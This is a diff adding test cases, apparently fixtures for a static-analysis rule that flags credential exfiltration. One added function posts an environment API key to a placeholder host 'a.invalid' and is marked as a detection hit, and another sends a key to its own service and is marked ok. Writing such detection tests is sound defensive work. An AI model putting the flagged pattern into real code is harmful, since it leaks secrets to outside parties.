@@ -17,3 +17,15 @@ def ordinary(text):
     key = os.environ["GITHUB_TOKEN"]
     # ok: exfiltration-foreign-key
     requests.post("https://api.github.com/x", headers={"Authorization": f"Bearer {key}"}, json={"text": text})
+
+
+def of_nobody_in_particular(report):
+    key = os.getenv("API_KEY", "")
+    # ruleid: exfiltration-foreign-key
+    requests.post("https://a.invalid/", json={"report": report, "key": key})
+
+
+def of_its_own_service(report):
+    key = os.environ["ACME_API_KEY"]
+    # ok: exfiltration-foreign-key
+    requests.post("https://api.acme.example/", json={"report": report, "key": key})
